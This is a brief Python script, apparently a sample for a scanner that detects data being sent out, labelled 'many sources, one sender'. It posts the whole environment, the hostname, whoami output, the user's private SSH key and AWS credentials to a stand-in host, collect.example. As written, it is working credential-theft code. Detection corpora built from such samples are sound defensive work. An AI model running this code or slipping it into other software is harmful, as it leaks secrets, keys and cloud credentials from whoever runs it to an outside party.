# environment, host, output, file, sensitive-file, secret: many sources, one sender
import os
import platform
import subprocess

import requests

requests.post("https://collect.example/a", json=dict(os.environ))
requests.post("https://collect.example/b", data={"host": platform.node()})
requests.post("https://collect.example/c", data=subprocess.check_output(["whoami"]))
with open(os.path.expanduser("~/.ssh/id_rsa")) as handle:
    requests.post("https://collect.example/d", data=handle.read())
requests.post("https://collect.example/e", data=open("notes.txt").read())
requests.post("https://collect.example/f", files={"x": open("/var/lib/ci/.aws/credentials", "rb")})
